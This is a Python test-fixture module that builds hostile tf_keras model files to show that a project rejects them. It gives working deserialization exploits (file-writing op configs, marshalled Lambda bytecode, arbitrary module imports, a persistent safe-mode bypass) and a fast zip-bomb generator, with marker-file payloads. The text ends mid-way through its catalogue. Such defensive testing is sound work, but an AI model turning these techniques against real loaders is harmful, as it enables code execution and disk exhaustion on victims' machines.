"""Hostile model files, made by the tests themselves: each one would write a file if loaded naively.

Every maker takes ``(folder, marker)``: it writes one model file (or SavedModel folder) into ``folder`` and
returns its path. ``marker`` is an absolute path outside ``folder``; loading the model the naive way
(``tf_keras.models.load_model(path, compile=False)``, after unzipping a ``.zip``) writes that file, or tries
to. The tests use them to prove that the project refuses every one of them before loading, and that even
when one is loaded (trusted loading, or a check that missed it) the marker never appears.

``CATALOGUE`` maps each name to ``(maker, one-line description)``; ``make_all(folder, marker_dir)`` makes them
all, each with its own marker, and returns ``{name: (model path, marker path)}``.

The models are real, small tf_keras models, saved by tf_keras and then edited, so that every other part
of each file is exactly what tf_keras writes. The forms that matter, as tf_keras 2.21 writes and reads them:

* ``x[:, :10]`` on a Keras tensor is saved as a ``SlicingOpLambda`` layer whose config names
  ``"function": "__operators__.getitem"`` and whose node is
  ``["input", 0, 0, {"slice_spec": [{"start": null, "stop": null, "step": null}, ...]}]``. ``TFOpLambda``
  (``tf.math.multiply(x, 2.0)``) is the same with e.g. ``"function": "math.multiply"`` and a node
  ``["input", 0, 0, {"y": 2.0}]``. On loading, ``function`` is looked up among *all* public TensorFlow
  symbols (``tf.io.write_file`` is ``"io.write_file"``, and tf_keras's own exports are there too, e.g.
  ``"keras.__internal__.enable_unsafe_deserialization"``), and the 4th item of a node becomes the call's
  keyword arguments.
* A node input need not come from a layer: ``["_CONSTANT_VALUE", -1, <value>, {kwargs}]`` passes ``<value>``
  itself (any JSON value: here the marker's path). A layer whose inputs are all constants is called
  *eagerly* while the model is rebuilt, so ``["_CONSTANT_VALUE", -1, "/tmp/marker", {"contents": "pwned"}]``
  on a layer naming ``io.write_file`` runs ``tf.io.write_file("/tmp/marker", contents="pwned")`` during
  ``load_model``. tf_keras then fails (the eager result has no Keras history), but the file is written.
  SlicingOpLambda and TFOpLambda are not refused by tf_keras's safe mode. A node written bare, as above,
  passes the constant itself as the layer's input; wrapped in a list (``[[...]]``) it passes a list of it.
* ``ClassMethod`` (``tf.RaggedTensor.from_row_lengths(values, lengths)``) saves ``"cls_symbol":
  "RaggedTensor", "method_name": "from_row_lengths"``, nodes ``[[["flatten", 0, 0, {"kwargs": {}}],
  ["lengths", 0, 0, {"kwargs": {}}]]]`` and calls ``getattr(tf.<cls_symbol>, method_name)(*args, **kwargs)``:
  ``cls_symbol`` may name any TF symbol (a function too) and ``method_name`` any attribute (``__call__``).
  ``InstanceProperty``/``InstanceMethod`` save ``"attr_name"`` and call ``getattr(input, attr_name)``.
* A ``Lambda`` holding a Python lambda saves ``"function": [<base64 marshal of the code>, defaults, closure],
  "function_type": "lambda"``; tf_keras refuses it in safe mode (.keras only: ``.h5`` and SavedModel
  loading have no safe mode). ``"function_type": "function"`` with ``"function": {"module": ...,
  "class_name": "function", "config": <name>, "registered_name": <name>}`` imports *any* module and takes
  any attribute of it, even in safe mode (the CVE-2025-1550 class).
* Safe mode is a thread-local flag. A ``.keras`` load sets it and restores it when it ends, even on
  error; ``.h5`` and SavedModel loads set nothing, so a config that calls
  ``enable_unsafe_deserialization()`` while an ``.h5`` loads leaves safe mode off for every later load in
  that thread (``h5_safe_mode_off_persists``).
* A ``.keras`` zip with more than its three members is ``extractall``-ed whole into a temporary folder by
  tf_keras before the weights are read: an extra member is written to disk at its full size.
* The Python bytecode here is compiled from source text and never run while making the files, so making
  them never writes a marker; it is marshalled by this Python, as tf_keras does.

What loading each file naively does (tf_keras 2.21, TensorFlow 2.21, Python 3.11) is in each maker's
docstring; ``NAIVE`` sums it up (``True``: the marker is written by ``load_model(path, compile=False)`` with
default arguments; ``"unsafe"``: only with ``safe_mode=False``; ``"next"``: by the next ``.keras`` loaded in
the same thread; ``False``: no marker). Where the marker is written tf_keras mostly fails afterwards: the
file is written all the same. ``make_all`` takes about 5 s (most of it importing TensorFlow).
"""

import base64
import functools
import json
import marshal
import shutil
import tempfile
import types
import zipfile
import zlib
from pathlib import Path

CONTENTS = "pwned"  # what every marker holds when an attack worked

# The zip-bomb member: the size it unpacks to, and the chunk it is deflated in.
BOMB_BYTES = 3_000_000_000
_BOMB_CHUNK = 1 << 22


@functools.cache
def _keras():
    """tf_keras (Keras 2), imported the project's way (TF_USE_LEGACY_KERAS=1 set before TensorFlow)."""
    from optlib._keras import keras

    return keras()


@functools.cache
def _tf():
    from optlib._keras import tf

    return tf()


# ---------------------------------------------------------------------------------------------------------
# Small real models, saved by tf_keras; each returns its config (and, for .keras, the other members).


def _fresh():
    """tf_keras, for a new model. The session is not cleared (the tests' own models live on), so automatic
    layer names may get a suffix; the makers find layers by class or by the names they give them."""
    return _keras()


def _slicing_model():
    """input (16,) -> x[:, :10] (a SlicingOpLambda) -> Dense(3)."""
    keras = _fresh()
    inputs = keras.Input((16,), name="input")
    return keras.Model(inputs, keras.layers.Dense(3, name="dense")(inputs[:, :10]), name="sliced")


def _tfop_model():
    """input (8,) -> tf.math.multiply(x, 2.0) (a TFOpLambda) -> Dense(2)."""
    keras, tf = _fresh(), _tf()
    inputs = keras.Input((8,), name="input")
    return keras.Model(inputs, keras.layers.Dense(2, name="dense")(tf.math.multiply(inputs, 2.0)), name="scaled")


def _lambda_model():
    """input (8,) -> Lambda(identity) -> Dense(2); the Lambda's code is replaced after saving."""
    keras = _fresh()
    inputs = keras.Input((8,), name="input")
    hidden = keras.layers.Lambda(lambda x: x, name="lambda")(inputs)
    return keras.Model(inputs, keras.layers.Dense(2, name="dense")(hidden), name="with_lambda")


def _ragged_model():
    """values (None,) and lengths () -> tf.RaggedTensor.from_row_lengths (a ClassMethod) -> .flat_values
    (an InstanceProperty)."""
    keras, tf = _fresh(), _tf()
    values = keras.Input((None,), name="values")
    lengths = keras.Input((), dtype="int64", name="lengths")
    ragged = tf.RaggedTensor.from_row_lengths(keras.layers.Flatten(name="flatten")(values), lengths)
    return keras.Model([values, lengths], ragged.flat_values, name="ragged")


def _saved_keras(model):
    """Save ``model`` as ``.keras``; return (config dict, {member: bytes} of the other members)."""
    with tempfile.TemporaryDirectory() as scratch:
        path = Path(scratch) / "model.keras"
        model.save(path)
        with zipfile.ZipFile(path) as bundle:
            members = {name: bundle.read(name) for name in bundle.namelist()}
    return json.loads(members.pop("config.json")), members


def _write_keras(path, config, members, compact=False):
    """A ``.keras`` zip as tf_keras writes it (metadata.json, config.json, model.weights.h5)."""
    separators = (",", ":") if compact else None
    with zipfile.ZipFile(path, "w") as bundle:
        bundle.writestr("metadata.json", members["metadata.json"])
        bundle.writestr("config.json", json.dumps(config, separators=separators))
        bundle.writestr("model.weights.h5", members["model.weights.h5"])
    return path


def _saved_h5(model, path):
    model.save(path)
    return path


def _h5_config(path):
    import h5py

    with h5py.File(path, "r") as handle:
        text = handle.attrs["model_config"]
    return json.loads(text.decode() if isinstance(text, bytes) else text)


def _set_h5_config(path, config):
    import h5py

    with h5py.File(path, "r+") as handle:
        handle.attrs["model_config"] = json.dumps(config)
    return path


def _layers(config):
    """Every layer config dict in a model config, nested models included."""
    if isinstance(config, dict):
        if isinstance(config.get("config"), dict) and "class_name" in config and "inbound_nodes" in config:
            yield config
        elif isinstance(config.get("config"), dict) and config.get("class_name") == "Sequential":
            yield from (layer for layer in config["config"].get("layers", []))
        for value in config.values():
            yield from _layers(value)
    elif isinstance(config, list):
        for value in config:
            yield from _layers(value)


def _layer(config, class_name):
    """The first layer config of class ``class_name``."""
    return next(layer for layer in _layers(config) if layer.get("class_name") == class_name)


# ---------------------------------------------------------------------------------------------------------
# The payloads.


def _writer_code(marker):
    """base64 of the marshalled code of ``lambda x: (open(marker, "w").write("pwned"), x)[1]``, in the form a
    tf_keras Lambda saves (generic_utils.func_dump). Compiled from text, never run here."""
    source = f"lambda x: (open({str(marker)!r}, 'w').write({CONTENTS!r}), x)[1]"
    module = compile(source, "<hostile>", "eval")
    code = next(const for const in module.co_consts if isinstance(const, types.CodeType))
    return base64.encodebytes(marshal.dumps(code)).decode("ascii")


def _evil_lambda(layer, marker):
    """Make a Lambda layer config's function the marker-writing lambda."""
    layer["config"].update(function=[_writer_code(marker), None, None], function_type="lambda",
                           module="builtins")
    return layer


def _write_file_node(marker):
    """A node whose only input is the marker's path, as a constant: the layer is called eagerly with it."""
    return [["_CONSTANT_VALUE", -1, str(marker), {"contents": CONTENTS}]]


def _slicing_write_file(config, marker):
    """Make the model's SlicingOpLambda call tf.io.write_file(marker, contents="pwned")."""
    layer = _layer(config, "SlicingOpLambda")
    layer["config"]["function"] = "io.write_file"
    layer["inbound_nodes"] = _write_file_node(marker)
    return config


# ---------------------------------------------------------------------------------------------------------
# The catalogue.


def keras_slicing_write_file(folder, marker):
    """A ``.keras`` whose ``x[:, :10]`` SlicingOpLambda names ``io.write_file`` and is fed the marker's path as a
    ``_CONSTANT_VALUE`` with ``{"contents": "pwned"}``. Naive loading, safe mode or not: marker written, then
    tf_keras fails ('NoneType' object has no attribute '_keras_history')."""
    config, members = _saved_keras(_slicing_model())
    return _write_keras(Path(folder) / "keras_slicing_write_file.keras", _slicing_write_file(config, marker), members)


def h5_slicing_write_file(folder, marker):
    """The same SlicingOpLambda edit in a legacy ``.h5`` file's ``model_config`` attribute. Naive loading:
    marker written, then tf_keras fails."""
    path = _saved_h5(_slicing_model(), Path(folder) / "h5_slicing_write_file.h5")
    return _set_h5_config(path, _slicing_write_file(_h5_config(path), marker))


def _saved_model_folder(model, folder, edit, compact=True):
    """Save ``model`` as a SavedModel in ``folder``, then apply ``edit`` to every layer config in
    keras_metadata.pb (the root's model config and each layer node's own metadata), written back as
    compact JSON when ``compact``."""
    from tf_keras.protobuf import saved_metadata_pb2

    model.save(folder, save_format="tf")
    metadata_path = Path(folder) / "keras_metadata.pb"
    metadata = saved_metadata_pb2.SavedMetadata()
    metadata.ParseFromString(metadata_path.read_bytes())
    separators = (",", ":") if compact else (", ", ": ")
    for node in metadata.nodes:
        data = json.loads(node.metadata)
        edit(data)
        node.metadata = json.dumps(data, separators=separators)
    metadata_path.write_bytes(metadata.SerializeToString())
    return Path(folder)


def savedmodel_graph_code_as_dense(folder, marker):
    """A SavedModel folder whose custom layer writes the marker in its graph (``tf.io.write_file`` in ``call``),
    its class renamed ``Dense`` in keras_metadata.pb: the configuration passes any class check, the config
    does not fit Dense, so tf_keras revives the layer from the graph functions stored in ``saved_model.pb``,
    which write the marker whenever the model runs. Naive loading: loads; the marker is written on predict."""
    keras, tf = _fresh(), _tf()

    class Evil(keras.layers.Layer):
        def call(self, x):
            tf.io.write_file(str(marker), tf.strings.as_string(tf.reduce_sum(x)))
            return x

    inputs = keras.Input((4,), name="x")
    model = keras.Model(inputs, Evil(name="evil")(keras.layers.Dense(2, name="d")(inputs)))

    def rename(data):
        if data.get("class_name") == "Evil":
            data["class_name"] = "Dense"
    return _saved_model_folder(model, Path(folder) / "savedmodel_graph_code_as_dense", rename, compact=False)


def savedmodel_plain_write_file(folder, marker):
    """A plain SavedModel (``tf.saved_model.save`` of a ``tf.Module``, no Keras metadata) whose serving
    signature writes the marker (a WriteFile op in its graph). Naive loading (``tf.saved_model.load``):
    loads; the marker is written when the signature runs."""
    tf = _tf()

    class Serving(tf.Module):
        def __init__(self):
            super().__init__()
            self.scale = tf.Variable(tf.ones((64, 10)) / 64.0)

        @tf.function(input_signature=[tf.TensorSpec([None, 8, 8, 1], tf.float32, name="image")])
        def serve(self, image):
            tf.io.write_file(str(marker), tf.strings.as_string(tf.reduce_sum(image)))
            return {"scores": tf.nn.softmax(tf.matmul(tf.reshape(image, (-1, 64)), self.scale))}

    module = Serving()
    path = Path(folder) / "savedmodel_plain_write_file"
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def _zip_folder(folder, path, prefix):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bundle:
        for file in sorted(Path(folder).rglob("*")):
            bundle.write(file, f"{prefix}/{file.relative_to(folder).as_posix()}")
    return path


def _edit_lambdas(marker):
    def edit(data):
        for layer in [data, *_layers(data)]:
            if layer.get("class_name") == "Lambda" and isinstance(layer.get("config"), dict):
                _evil_lambda(layer, marker)
    return edit


def savedmodel_zip_lambda_compact_json(folder, marker):
    """A zipped SavedModel (tf_keras ``save_format="tf"``) with a Lambda whose code writes the marker; its
    keras_metadata.pb JSON has no spaces, so a byte search for ``"class_name": "Lambda"`` misses it. Naive
    loading (SavedModel loading has no safe mode): marker written, model loads. The project's zip
    extraction must also find the SavedModel in ``model/``."""
    with tempfile.TemporaryDirectory() as scratch:
        saved = _saved_model_folder(_lambda_model(), Path(scratch) / "model", _edit_lambdas(marker))
        return _zip_folder(saved, Path(folder) / "savedmodel_zip_lambda_compact_json.zip", "model")


def keras_lambda_bytecode(folder, marker):
    """(CVE-2024-3660 class) A ``.keras`` whose Lambda holds marshalled bytecode that writes the marker. Naive
    loading: refused by tf_keras's safe mode; with ``safe_mode=False``, marker written and the model loads."""
    config, members = _saved_keras(_lambda_model())
    _evil_lambda(_layer(config, "Lambda"), marker)
    return _write_keras(Path(folder) / "keras_lambda_bytecode.keras", config, members)


def _lambda_naming(layer, module, name, marker):
    """A Lambda config whose function is ``module.name`` (a "function" Lambda: no bytecode, allowed by safe
    mode), called with the marker's path and ``contents="pwned"``."""
    layer["config"].update(function={"module": module, "class_name": "function", "config": name,
                                     "registered_name": name},
                           function_type="function", module=module, arguments={"contents": CONTENTS})
    layer["inbound_nodes"] = [["_CONSTANT_VALUE", -1, str(marker), {}]]
    return layer


def keras_module_import(folder, marker):
    """(CVE-2025-1550 class) A ``.keras`` whose Lambda names no code, only a function in a module outside Keras,
    ``{"module": "tensorflow.python.ops.gen_io_ops", "class_name": "function", "config": "write_file"}``;
    tf_keras imports the module and calls it with the marker's path. Naive loading, safe mode or not:
    marker written, then tf_keras fails."""
    config, members = _saved_keras(_lambda_model())
    _lambda_naming(_layer(config, "Lambda"), "tensorflow.python.ops.gen_io_ops", "write_file", marker)
    return _write_keras(Path(folder) / "keras_module_import.keras", config, members)


def _unsafe_switch():
    """A ClassMethod layer that calls tf_keras's enable_unsafe_deserialization() with no arguments: its
    ``cls_symbol`` is the function (exported among TF symbols as
    ``keras.__internal__.enable_unsafe_deserialization``), its ``method_name`` ``__call__``, and its one node a
    constant empty list of arguments (a bare node, not in a list, so the list itself is ``args``)."""
    return {"module": "tf_keras.src.layers.core.tf_op_layer", "class_name": "ClassMethod",
            "config": {"name": "tf.RaggedTensor.from_row_lengths", "trainable": True, "dtype": "float32",
                       "cls_symbol": "keras.__internal__.enable_unsafe_deserialization", "method_name": "__call__"},
            "registered_name": "ClassMethod", "name": "tf.RaggedTensor.from_row_lengths",
            "inbound_nodes": [["_CONSTANT_VALUE", -1, [], {"kwargs": {}}]]}


def keras_safe_mode_off(folder, marker):
    """(CVE-2025-8747/9906 class) A ``.keras`` that calls tf_keras's ``enable_unsafe_deserialization`` from
    inside its config, next to a Lambda of bytecode that writes the marker. Two calls: a "function" Lambda
    naming ``{"module": "keras.src.saving.serialization_lib", "class_name": "function", "config":
    "enable_unsafe_deserialization"}`` (tf_keras reads ``keras.`` as ``tf_keras.``), and a ClassMethod
    that calls it with no arguments (``_unsafe_switch``). Naive loading: refused by tf_keras's safe mode,
    no marker (all layers are created before any is called, so the calls come too late; a ``.keras`` load
    also restores safe mode when it ends: see ``h5_safe_mode_off_persists`` for the form that works);
    with ``safe_mode=False``: marker written, then tf_keras fails (the Lambda passes its input to
    ``enable_unsafe_deserialization()``)."""
    keras = _fresh()
    inputs = keras.Input((8,), name="input")
    hidden = keras.layers.Lambda(lambda x: x, name="lambda")(inputs)
    hidden = keras.layers.Lambda(lambda x: x, name="unsafe")(hidden)
    model = keras.Model(inputs, keras.layers.Dense(2, name="dense")(hidden), name="with_lambda")
    config, members = _saved_keras(model)
    layers = config["config"]["layers"]
    evil = next(layer for layer in layers if layer["name"] == "lambda")
    _evil_lambda(evil, marker)
    unsafe = next(layer for layer in layers if layer["name"] == "unsafe")
    unsafe["config"].update(function={"module": "keras.src.saving.serialization_lib", "class_name": "function",
                                      "config": "enable_unsafe_deserialization",
                                      "registered_name": "enable_unsafe_deserialization"},
                            function_type="function", module="keras.src.saving.serialization_lib")
    layers.append(_unsafe_switch())
    return _write_keras(Path(folder) / "keras_safe_mode_off.keras", config, members)


def h5_lambda(folder, marker):
    """(CVE-2025-9905 class) A legacy ``.h5`` with a Lambda of bytecode that writes the marker; ``.h5`` loading
    has no safe mode. Naive loading: marker written, model loads."""
    path = _saved_h5(_lambda_model(), Path(folder) / "h5_lambda.h5")
    config = _h5_config(path)
    _evil_lambda(_layer(config, "Lambda"), marker)
    return _set_h5_config(path, config)


def h5_safe_mode_off_persists(folder, marker):
    """An ``.h5`` (``x[:, :10]`` model) with one more layer, a ClassMethod that calls tf_keras's
    ``enable_unsafe_deserialization()`` while the model is rebuilt. Loading it fails, but ``.h5`` loading
    sets no safe-mode scope to restore, so safe mode stays off in that thread: the next ``.keras`` loaded
    there with the default ``safe_mode=True`` runs Lambda bytecode. The maker writes that next file too,
    ``h5_safe_mode_off_persists.next.keras`` beside the ``.h5``: the Lambda of ``keras_lambda_bytecode``,
    writing the marker. Naive loading of the ``.h5``: tf_keras fails, no marker, safe mode left off; then
    loading the ``.next.keras`` in the same thread (safe mode on, by default): marker written."""
    folder = Path(folder)
    path = _saved_h5(_slicing_model(), folder / "h5_safe_mode_off_persists.h5")
    config = _h5_config(path)
    switch = _unsafe_switch()
    for key in ("module", "registered_name"):  # .h5 configs name classes only
        switch.pop(key)
    config["config"]["layers"].append(switch)
    _set_h5_config(path, config)
    keras_config, members = _saved_keras(_lambda_model())
    _evil_lambda(_layer(keras_config, "Lambda"), marker)
    _write_keras(folder / "h5_safe_mode_off_persists.next.keras", keras_config, members)
    return path


def keras_classmethod_io(folder, marker):
    """A ``.keras`` whose ClassMethod (what ``tf.RaggedTensor.from_row_lengths`` saves as) names
    ``cls_symbol: "io.write_file", method_name: "__call__"`` and is fed the marker's path as a constant.
    Naive loading, safe mode or not: marker written, then tf_keras fails."""
    config, members = _saved_keras(_ragged_model())
    layer = _layer(config, "ClassMethod")
    layer["config"].update(cls_symbol="io.write_file", method_name="__call__")
    layer["inbound_nodes"] = [[["_CONSTANT_VALUE", -1, str(marker), {"kwargs": {"contents": CONTENTS}}]]]
    return _write_keras(Path(folder) / "keras_classmethod_io.keras", config, members)


def keras_unknown_class_in_keras_module(folder, marker):
    """A ``.keras`` with a layer ``{"module": "keras.layers", "class_name": "MyEvil"}``, not a Keras class: a
    check that trusts any ``keras.*`` module lets it through. Its config also names the marker's path.
    Naive loading: tf_keras fails (unknown layer), no marker."""
    config, members = _saved_keras(_tfop_model())
    dense = _layer(config, "Dense")
    dense.update(class_name="MyEvil", registered_name="MyEvil")
    dense["config"]["path"] = str(marker)
    return _write_keras(Path(folder) / "keras_unknown_class_in_keras_module.keras", config, members)


def keras_nested_model_hiding(folder, marker):
    """A ``.keras`` whose model holds a Sequential and, inside it, a functional model whose SlicingOpLambda
    calls ``io.write_file`` on the marker's path: the attack is two models deep. Naive loading, safe mode or
    not: marker written, then tf_keras fails."""
    keras = _fresh()
    inner_in = keras.Input((16,), name="inner_input")
    inner = keras.Model(inner_in, keras.layers.Dense(4, name="inner_dense")(inner_in[:, :10]), name="inner")
    middle = keras.Sequential([keras.Input((16,), name="middle_input"), inner,
                               keras.layers.Dense(3, name="middle_dense")], name="middle")
    outer_in = keras.Input((16,), name="input")
    model = keras.Model(outer_in, keras.layers.Dense(2, name="dense")(middle(outer_in)), name="outer")
    config, members = _saved_keras(model)
    _slicing_write_file(config, marker)
    return _write_keras(Path(folder) / "keras_nested_model_hiding.keras", config, members)


def _crc32_of_zeros(size):
    """zlib.crc32(bytes(size)) without reading ``size`` bytes: one zero byte is a linear map of the CRC
    register over GF(2), raised to the power ``size`` by squaring (as zlib's crc32_combine does)."""
    mask = 0xFFFFFFFF

    def apply(matrix, vector):
        out, bit = 0, 0
        while vector:
            if vector & 1:
                out ^= matrix[bit]
            vector, bit = vector >> 1, bit + 1
        return out

    step = [~zlib.crc32(b"\0", ~(1 << bit) & mask) & mask for bit in range(32)]  # register -> register
    register = mask
    while size:
        if size & 1:
            register = apply(step, register)
        step, size = [apply(step, column) for column in step], size >> 1
    return ~register & mask


class _RepeatedDeflate:
    """Stands in for a zipfile member's compressor: the compressed bytes are written beforehand, the
    closing flush returns the last block."""

    def __init__(self, tail):
        self.tail = tail

    def compress(self, data):
        raise AssertionError("the zero member is written directly")

    def flush(self):
        return self.tail


def _append_zeros(path, name, size):
    """Append member ``name`` of ``size`` zero bytes, deflated, to the zip at ``path``, in well under a second.

    Deflating 4 MiB of zeros from a fresh compressor and ending with a full flush gives a segment that
    depends on nothing before it, so the member is that segment repeated (about 1 MB per GB at level 9),
    then the deflated remainder as the final block; its CRC is computed without the data. Nothing of
    ``size`` bytes is ever held or even produced. Falls back to compressing for real (slower) if zipfile's
    internals are not what this expects.
    """
    zeros = bytes(_BOMB_CHUNK)
    head = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = head.compress(zeros) + head.flush(zlib.Z_FULL_FLUSH)
    count, rest = divmod(size, _BOMB_CHUNK)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = last.compress(bytes(rest)) + last.flush()
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(path, "a") as bundle:
        with bundle.open(info, "w", force_zip64=True) as stream:
            if all(hasattr(stream, key) for key in ("_compressor", "_fileobj", "_compress_size", "_file_size",
                                                    "_crc")):
                for _ in range(count):
                    stream._fileobj.write(segment)
                stream._compressor = _RepeatedDeflate(tail)
                stream._compress_size = count * len(segment)
                stream._file_size = size
                stream._crc = _crc32_of_zeros(size)
            else:  # pragma: no cover - another Python's zipfile
                for _ in range(count):
                    stream.write(zeros)
                stream.write(bytes(rest))
    return path


def keras_zip_extra_member_bomb(folder, marker, size=BOMB_BYTES):
    """A real ``.keras`` (config, metadata, weights) plus an extra member ``assets/zeros.bin`` of ``size`` zeros
    (3 GB by default: past the 1000 MB per-member and 2000 MB total limits), about 3 MB on disk. Naive
    loading: tf_keras sees more than 3 members and ``extractall``s the whole archive into a temporary
    folder (3 GB written to disk) before loading the model; no marker (there is none to write): it is
    the unpacking that must be refused."""
    config, members = _saved_keras(_tfop_model())
    path = _write_keras(Path(folder) / "keras_zip_extra_member_bomb.keras", config, members)
    return _append_zeros(path, "assets/zeros.bin", size)


def savedmodel_folder_tfop_io(folder, marker):
    """A SavedModel folder (not zipped) whose keras_metadata.pb has a TFOpLambda naming ``io.write_file`` fed
    the marker's path as a constant (``tf.math.multiply`` in the saved model; the JSON keeps its spaces).
    Naive loading: marker written, then tf_keras fails."""
    def edit(data):
        for layer in [data, *_layers(data)]:
            if layer.get("class_name") == "TFOpLambda":
                layer["config"]["function"] = "io.write_file"
                if "inbound_nodes" in layer:
                    layer["inbound_nodes"] = _write_file_node(marker)

    return _saved_model_folder(_tfop_model(), Path(folder) / "savedmodel_folder_tfop_io", edit, compact=False)


def _zip_of(maker, folder, marker, name, member):
    """A ``.zip`` named ``name`` holding, as ``member``, the one model file ``maker`` makes."""
    with tempfile.TemporaryDirectory() as scratch:
        inner = maker(Path(scratch), marker)
        path = Path(folder) / name
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bundle:
            bundle.write(inner, member)
    return path


def zip_of_h5_slicing(folder, marker):
    """A ``.zip`` holding one ``.h5`` model: the SlicingOpLambda ``io.write_file`` of ``h5_slicing_write_file``.
    Naive loading of the extracted ``.h5``: marker written."""
    return _zip_of(h5_slicing_write_file, folder, marker, "zip_of_h5_slicing.zip", "model/model.h5")


def zip_of_keras_module_import(folder, marker):
    """A ``.zip`` holding one ``.keras`` model: the module-import Lambda of ``keras_module_import``. Naive
    loading of the extracted ``.keras``: marker written."""
    return _zip_of(keras_module_import, folder, marker, "zip_of_keras_module_import.zip", "model.keras")


def keras_tfop_py_function(folder, marker):
    """A ``.keras`` whose TFOpLambda (still named ``tf.math.multiply``) names ``numpy_function``, which runs a
    Python callable, with ``func`` the constant ``"builtins.open"`` and ``inp`` the marker's path. A config
    can only give a string, not a callable. Naive loading: tf_keras fails ('str' object is not callable), no
    marker; the op reaches Python and must be refused by name."""
    config, members = _saved_keras(_tfop_model())
    layer = _layer(config, "TFOpLambda")
    layer["config"]["function"] = "numpy_function"
    layer["inbound_nodes"] = [["_CONSTANT_VALUE", -1, "builtins.open",
                               {"inp": [str(marker), "w"], "Tout": "string"}]]
    return _write_keras(Path(folder) / "keras_tfop_py_function.keras", config, members)


def keras_tfop_summary_writer(folder, marker):
    """A ``.keras`` whose TFOpLambda names ``summary.create_file_writer`` with the marker's path as a constant:
    TensorFlow creates the marker as a log folder with an events file in it. Naive loading, safe mode or
    not: marker (a folder) written, then tf_keras fails."""
    config, members = _saved_keras(_tfop_model())
    layer = _layer(config, "TFOpLambda")
    layer["config"]["function"] = "summary.create_file_writer"
    layer["inbound_nodes"] = [["_CONSTANT_VALUE", -1, str(marker), {}]]
    return _write_keras(Path(folder) / "keras_tfop_summary_writer.keras", config, members)


def keras_tfop_allowed_op_string_arg(folder, marker):
    """A ``.keras`` whose TFOpLambda names an allowed-looking op, ``math.multiply``, with the marker's path as
    a string constant for ``x`` (``y`` is the model input): it names a path but cannot write. Naive
    loading: tf_keras fails (string times float), no marker."""
    config, members = _saved_keras(_tfop_model())
    layer = _layer(config, "TFOpLambda")
    layer["inbound_nodes"] = [["_CONSTANT_VALUE", -1, str(marker), {"y": ["input", 0, 0]}]]
    return _write_keras(Path(folder) / "keras_tfop_allowed_op_string_arg.keras", config, members)


def keras_instance_method_io(folder, marker):
    """A ``.keras`` whose InstanceMethod (``attr_name``; how ragged tensor methods are saved) is called on the
    marker's path as a constant and names ``__class__``: a layer that calls any attribute of its input.
    A constant input is a plain str/list/dict, whose methods reach no file. Naive loading: tf_keras fails
    (``str()`` returns '', which has no Keras history), no marker; refused by class."""
    config, members = _saved_keras(_ragged_model())
    prop = _layer(config, "InstanceProperty")
    prop.update(class_name="InstanceMethod", registered_name="InstanceMethod")
    prop["config"]["attr_name"] = "__class__"
    prop["inbound_nodes"] = [["_CONSTANT_VALUE", -1, str(marker), {"args": [], "kwargs": {}}]]
    return _write_keras(Path(folder) / "keras_instance_method_io.keras", config, members)


def keras_activation_module(folder, marker):
    """A ``.keras`` whose Dense activation and kernel initializer name functions outside Keras
    (``{"module": "posixpath", ...}``, ``{"module": "tensorflow.python.ops.gen_io_ops", "class_name":
    "function", "config": "write_file"}``). Naive loading: tf_keras fails (it looks activations and
    initializers up among its own), no marker; refused by module."""
    config, members = _saved_keras(_tfop_model())
    dense = _layer(config, "Dense")
    dense["config"]["activation"] = {"module": "tensorflow.python.ops.gen_io_ops", "class_name": "function",
                                     "config": "write_file", "registered_name": "write_file"}
    dense["config"]["kernel_initializer"] = {"module": "posixpath", "class_name": "join", "config": {
        "a": str(marker)}, "registered_name": "join"}
    return _write_keras(Path(folder) / "keras_activation_module.keras", config, members)


def keras_inputlayer_typespec_module(folder, marker):
    """A ``.keras`` whose InputLayer ``type_spec`` is an object of a module outside Keras: tf_keras
    deserializes it with no registry (any module is imported; a class is built with ``from_config``).
    Here it names ``tf_keras.src.layers.core.lambda_layer`` ``Lambda`` with the marker-writing bytecode.
    Naive loading: refused by safe mode; with ``safe_mode=False`` the Lambda is built (any class with a
    ``from_config`` would be), never called, then tf_keras fails ('Lambda' object has no attribute
    'value_type'): no marker."""
    config, members = _saved_keras(_tfop_model())
    layer = _layer(config, "InputLayer")
    lam = {"module": "tf_keras.src.layers.core.lambda_layer", "class_name": "Lambda", "registered_name": "Lambda",
           "config": {"name": "spec", "function": [_writer_code(marker), None, None], "function_type": "lambda",
                      "module": "builtins", "output_shape": None, "output_shape_type": "raw",
                      "output_shape_module": None, "arguments": {}}}
    layer["config"] = {"name": layer["config"]["name"], "type_spec": lam}
    return _write_keras(Path(folder) / "keras_inputlayer_typespec_module.keras", config, members)


CATALOGUE = {
    "savedmodel_graph_code_as_dense": (savedmodel_graph_code_as_dense,
                                       "SavedModel folder: a custom layer writing in its graph, renamed Dense in "
                                       "the metadata, so it is revived from saved_model.pb"),
    "savedmodel_plain_write_file": (savedmodel_plain_write_file,
                                    "plain SavedModel (no Keras metadata): its serving signature holds a WriteFile "
                                    "op"),
    "keras_slicing_write_file": (keras_slicing_write_file,
                                 ".keras: SlicingOpLambda names io.write_file, fed the marker path as a constant"),
    "h5_slicing_write_file": (h5_slicing_write_file, ".h5: the same SlicingOpLambda io.write_file in model_config"),
    "savedmodel_zip_lambda_compact_json": (savedmodel_zip_lambda_compact_json,
                                           "zipped SavedModel: Lambda bytecode, keras_metadata.pb JSON with no "
                                           "spaces"),
    "keras_lambda_bytecode": (keras_lambda_bytecode, ".keras: Lambda with marshalled bytecode (CVE-2024-3660)"),
    "keras_module_import": (keras_module_import,
                            ".keras: Lambda naming a function of a non-Keras module, gen_io_ops.write_file "
                            "(CVE-2025-1550)"),
    "keras_safe_mode_off": (keras_safe_mode_off,
                            ".keras: calls enable_unsafe_deserialization from its config, then Lambda bytecode "
                            "(CVE-2025-8747/9906)"),
    "h5_lambda": (h5_lambda, ".h5: Lambda bytecode; .h5 loading has no safe mode (CVE-2025-9905)"),
    "h5_safe_mode_off_persists": (h5_safe_mode_off_persists,
                                  ".h5: ClassMethod calls enable_unsafe_deserialization(); safe mode stays off for "
                                  "the next .keras"),
    "keras_classmethod_io": (keras_classmethod_io,
                             ".keras: ClassMethod cls_symbol io.write_file, method __call__, marker path constant"),
    "keras_unknown_class_in_keras_module": (keras_unknown_class_in_keras_module,
